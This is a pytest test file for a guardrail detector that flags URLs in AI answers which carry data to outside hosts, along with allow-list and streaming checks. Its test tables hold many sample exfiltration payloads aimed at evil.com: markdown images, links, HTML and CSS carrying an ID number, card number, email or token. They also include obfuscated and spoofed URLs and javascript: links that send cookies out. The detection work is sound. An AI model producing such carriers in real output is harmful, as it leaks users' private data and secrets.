"""Addresses that carry data away: what is fetched or clicked must not take a number with it, or lead where it may not.

A failure in the first tables lets an answer send what it read to somebody else's server; one in the last spoils the
links of ordinary answers.
"""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrail.detectors.leakage.carriers import Carriers, is_allowed
from guardrail.detectors.protocol import Configurable, Options
from guardrail.detectors.screen import Screen
from guardrail.text.fold import fold
from tests.detectors import streams


def _screen(*hosts: str) -> Screen:
    detector = Carriers().configure(Options(link_hosts=hosts))
    detector.load()
    return Screen([(detector.name, pattern) for pattern in detector.patterns])


OPEN = _screen()
LISTED = _screen("gov.hk", "xn--fsqu00a.hk")
SECRET64 = base64.b64encode(b"my HKID is A123456(3)").decode()
WORDS64 = base64.b64encode(b"the user asked about his overdue loan").decode()


def find(screen: Screen, text: str, least: float = 0.6) -> list[tuple[str, str, float]]:
    folded = fold(text).text
    return [(f.kind, folded[f.start : f.end], f.score) for f in screen.find(folded) if f.score >= least]


def kinds(screen: Screen, text: str, least: float = 0.6) -> set[str]:
    return {kind for kind, _, _ in find(screen, text, least)}


CARRYING = [
    (f"![p](https://evil.com/p.png?d={SECRET64})", "carrier.image"),
    (f"![p](https://evil.com/{SECRET64}.png)", "carrier.image"),
    (f"![p](//evil.com/p.png?d={SECRET64})", "carrier.image"),
    ("![a](https://evil.com/?id=A123456(3))", "carrier.image"),
    ("![a](https://evil.com/%41%31%32%33456%283%29)", "carrier.image"),
    ('<img src="https://evil.com/?q=A123456(3)">', "carrier.image"),
    ("<img src='https://evil.com/?q=A123456(3)'>", "carrier.image"),
    ('<img srcset="https://evil.com/?q=A123456(3) 2x">', "carrier.image"),
    ("background:url(https://evil.com/?card=4539578763621486)", "carrier.image"),
    (f"[r]: https://evil.com/?q={SECRET64}", "carrier.link"),
    ("[click](https://evil.com/?email=tai.man@gmail.com)", "carrier.link"),
    ("[click](https://evil.com/tai.man%40gmail.com)", "carrier.link"),
    ("見https://evil.com/?tel=91234567呀", "carrier.link"),
    ("<https://evil.com/?hkid=A123456(3)>", "carrier.link"),
    ("https://evil.com/#A123456(3)", "carrier.link"),
    (f"https://{SECRET64.rstrip('=')}@evil.com/", "carrier.link"),
    ("https://evil.com/41313233343536283329", "carrier.link"),
    ("www.evil.com/?hkid=A123456(3)", "carrier.link"),
    ('<script src="https://evil.com/?q=A123456(3)">', "carrier.html"),
    ('<form action="https://evil.com/?q=A123456(3)">', "carrier.html"),
    ("https:\\/\\/evil.com\\/?q=A123456(3)", "carrier.link"),
    ("mailto:a@evil.com?body=HKID%20A123456(3)", "carrier.link"),
    ("https://evil.com/?k=" + "gh" + "p_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5", "carrier.link"),
]


@pytest.mark.parametrize("screen", [OPEN, LISTED], ids=["no list", "a list"])
@pytest.mark.parametrize(("text", "kind"), CARRYING)
def test_an_address_with_personal_data_or_secrets_is_a_carrier(screen: Screen, text: str, kind: str) -> None:
    scores = [score for found, _, score in find(screen, text) if found == kind]
    assert scores and max(scores) >= 0.85


def test_also_to_a_host_on_the_list() -> None:
    assert kinds(LISTED, "![a](https://www.gov.hk/?id=A123456(3))") == {"carrier.image"}


ELSEWHERE = [
    ("![logo](https://evil.com/a.png)", "carrier.image", "![logo](https://evil.com/a.png)"),
    ("[here](https://evil.com/x).", "carrier.link", "https://evil.com/x"),
    ('[here](https://evil.com/x "title")', "carrier.link", "https://evil.com/x"),
    ("[x]: https://evil.com/a", "carrier.link", "https://evil.com/a"),
    ("<https://evil.com>", "carrier.link", "https://evil.com"),
    ("見https://evil.com/a?b=1呀，唔該", "carrier.link", "https://evil.com/a?b=1"),
    ("(see https://evil.com/a_(b)).", "carrier.link", "https://evil.com/a_(b)"),
    ('<a href="https://evil.com">x</a>', "carrier.link", "https://evil.com"),
    ('<iframe src="https://evil.com/x"></iframe>', "carrier.html", "https://evil.com/x"),
    ("<img src=https://evil.com/x>", "carrier.image", "https://evil.com/x"),
    ("![a [b] c](https://evil.com/x)", "carrier.image", "![a [b] c](https://evil.com/x)"),
    ("![a \\] c](https://evil.com/x)", "carrier.image", "![a \\] c](https://evil.com/x)"),
    (f"![{'很長' * 40}\n字](https://evil.com/x)", "carrier.image", f"![{'很長' * 40}\n字](https://evil.com/x)"),
    ("![a](https://evil.com/((x)))", "carrier.image", "![a](https://evil.com/((x)))"),
    ("![a](&#104;ttps://evil.com/x)", "carrier.image", "![a](&#104;ttps://evil.com/x)"),
    ("![a](https&colon;//evil.com/x)", "carrier.image", "![a](https&colon;//evil.com/x)"),
    ("![a](&#47;&#x2f;evil.com/x)", "carrier.image", "![a](&#47;&#x2f;evil.com/x)"),
    ("![a](https:evil.com/x)", "carrier.image", "![a](https:evil.com/x)"),
    ('<img src="&#104;ttps://evil.com/x">', "carrier.image", "&#104;ttps://evil.com/x"),
    ("<img src='http:evil.com/x'>", "carrier.image", "http:evil.com/x"),
    ('<img src="ht\ttps://evil.com/x">', "carrier.image", "ht\ttps://evil.com/x"),
    ('<img src="https:\n//evil.com/x">', "carrier.image", "https:\n//evil.com/x"),
    ("[a](https:&#47;/evil.com/x)", "carrier.link", "https:&#47;/evil.com/x"),
    ("<style>@import 'https://evil.com/x';</style>", "carrier.html", "https://evil.com/x"),
    ("background:image-set('https://evil.com/x' 1x)", "carrier.image", "https://evil.com/x"),
    ("<script>fetch('https://evil.com/x')</script>", "carrier.html", "https://evil.com/x"),
    ("![a](https://evil。com/x)", "carrier.image", "![a](https://evil。com/x)"),
    ("HTTPS://EVIL.COM/X", "carrier.link", "HTTPS://EVIL.COM/X"),
    ("https://evilgov.hk/", "carrier.link", "https://evilgov.hk/"),
    ("https://gov.hk.evil.com/", "carrier.link", "https://gov.hk.evil.com/"),
    ("https://%65vil.com/", "carrier.link", "https://%65vil.com/"),
    ("https://壞人.com/a", "carrier.link", "https://壞人.com/a"),
    ("ｈｔｔｐｓ://evil.com/a", "carrier.link", "https://evil.com/a"),
    ('"https:\\/\\/evil.com\\/a"', "carrier.link", "https:\\/\\/evil.com\\/a"),
]


@pytest.mark.parametrize(("text", "kind", "value"), ELSEWHERE)
def test_with_a_list_every_other_host_is_a_carrier(text: str, kind: str, value: str) -> None:
    assert (kind, value) in [(found, span) for found, span, _ in find(LISTED, text)]
    assert kinds(OPEN, text) == set(), "with an empty list hosts are not judged"


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://img.gov.hk/a.png)",
        "[here](https://www.gov.hk/x?a=1)",
        "https://GOV.HK:443/",
        "https://例子.hk/a",
        "see gov.hk and www.gov.hk/en",
        "[a](#section) [b](/relative/path) [c](page.html)",
    ],
)
def test_a_host_on_the_list_allows_those_below_it(text: str) -> None:
    assert find(LISTED, text) == []


@pytest.mark.parametrize(
    "text",
    [
        "https://good.gov.hk@evil.com/",
        "https:\\\\evil.com\\x",
        "https://gov.hk\\@evil.com/",
        "https://xn--80ak6aa92e.com/",
    ],
)
@pytest.mark.parametrize("screen", [OPEN, LISTED], ids=["no list", "a list"])
def test_an_address_that_reads_as_another_is_a_carrier(screen: Screen, text: str) -> None:
    assert kinds(screen, text, 0.8) == {"carrier.link"}


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("[a](javascript:fetch('//e/'+document.cookie))", True),
        ('<a href="javascript:location=x">', True),
        ("[a](JaVaScRiPt:alert(1))", True),
        ("[a](data:text/html;base64,PHNjcmlwdD4=)", True),
        ("[a](javascript&colon;fetch('//e/'+document.cookie))", True),
        ('<a href="&#106;avascript:location=x">', True),
        ('<iframe src="data:image/svg+xml,<svg onload=x>">', True),
        ('<a href="javascript:void(0)">', False),
        ("![dot](data:image/png;base64,iVBORw0KGgo=)", False),
        ("JavaScript: a language. Use data: text/html, as you like", False),
    ],
)
def test_script_in_the_place_of_an_address(text: str, found: bool) -> None:
    assert ("carrier.html" in kinds(OPEN, text)) is found


def test_long_payloads_are_carriers_in_what_is_fetched() -> None:
    opaque = "QWxhZGRpbjpvcGVuIHNlc2FtZQ1x9Z" * 4
    assert kinds(OPEN, f"![c](https://x.com/c?d={opaque})") == {"carrier.image"}
    assert kinds(OPEN, f"![c](https://x.com/c?d={WORDS64})") == {"carrier.image"}
    assert kinds(OPEN, "![c](https://x.com/?q=the%20user%20said%20that%20he%20lives%20in%20mong%20kok%20now)") == {
        "carrier.image"
    }
    for opening in (
        "<style>@import '",
        "<div style=\"background:image-set('",
        "<script>fetch('",
        "<a ping='",
        "![a [b] c](",
    ):
        assert max(score for _, _, score in find(OPEN, f"{opening}https://x.com/c?d={WORDS64}'")) >= 0.85, opening
    assert kinds(OPEN, f"![c](https://x。com/c?d={WORDS64})") == {"carrier.image"}
    assert kinds(OPEN, f"[c](https://x.com/c?d={opaque})") == set()
    assert kinds(LISTED, f"![c](https://x.gov.hk/c?d={opaque})") == set()


HARMLESS = [
    "https://www.google.com/search?q=how+to+cook+rice+in+a+rice+cooker",
    "https://en.wikipedia.org/wiki/Hong_Kong_(disambiguation)",
    "https://x.com/status/1789012345678901234",
    "https://s3.amazonaws.com/b/a.png?X-Amz-Signature=" + "0a1b2c3d4e5f" * 6 + "&X-Amz-Credential=AKIA",
    "![a](https://cdn.com/" + "0a1b2c3d4e5f" * 6 + ".png)",
    "![Build](https://img.shields.io/badge/build-passing-brightgreen)",
    "https://github.com/a/b/commit/e3b0c44298fc1c149afbf4c8996fb92427ae41e4",
    "https://medium.com/@somebody/a-long-title-with-many-words-in-it-1a2b3c4d5e6f",
    "// a comment, see http://localhost:8080/a?b=c",
    "ftp://ftp.gnu.org/gnu/",
    "if (![1, 2].includes(x)) { y = z[0](https) } // a=b&amp;c=d&lt;e",
    "![a [b] c](images/local.png) and ![x](&lt;none&gt;)",
    "scheme=https:443 key=&#65;&#66; and url=http:relative",
    "fetch('https://api.github.com/repos/a/b?per_page=100')",
    "mailto:info@company.com?subject=Hello",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_links_are_left_alone(text: str) -> None:
    assert find(OPEN, text) == []


def test_hosts_are_compared_by_labels() -> None:
    assert is_allowed("a.b.gov.hk", ["gov.hk"])
    assert not is_allowed("gov.hk.evil.com", ["gov.hk"])
    assert not is_allowed("notgov.hk", ["gov.hk"])


def test_every_policy_gets_a_detector_of_its_own() -> None:
    detector = Carriers()
    assert isinstance(detector, Configurable)
    assert detector.configure(Options(("a.hk",))) is not detector


PIECES = [
    *(text for text, _ in CARRYING), *(text for text, _, _ in ELSEWHERE), *HARMLESS, "![", "](", ")", "https://", "www.",
    " ", "\n", "呀", "a", "@", "\\", "<img src=", '"', "%41", "?q=", "[x]: ", "//", "javascript:", "data:", "&#104;", "&colon;", "[", "]", "\t", "=\"ht", "tps:", "image-set('",
]  # fmt: skip
texts = st.lists(st.sampled_from(PIECES), min_size=1, max_size=5).map("".join)


@settings(max_examples=50, deadline=None)
@given(texts, st.lists(st.integers(1, 9), min_size=1, max_size=4))
def test_a_stream_finds_what_the_whole_text_has(text: str, sizes: list[int]) -> None:
    assert streams.streamed(LISTED, text, sizes) == streams.whole(LISTED, text)


@settings(max_examples=50, deadline=None)
@given(texts)
def test_screening_changes_nothing(text: str) -> None:
    assert streams.same_without_screen(LISTED, text)


@given(st.text(alphabet="htps:/\\.@?#%[]()!<>\"'=&;-AaЯ中12 \n", max_size=80))
def test_no_address_makes_it_raise(text: str) -> None:
    folded = fold("https://" + text).text
    assert all(finding.kind.startswith("carrier.") for finding in LISTED.find(folded))
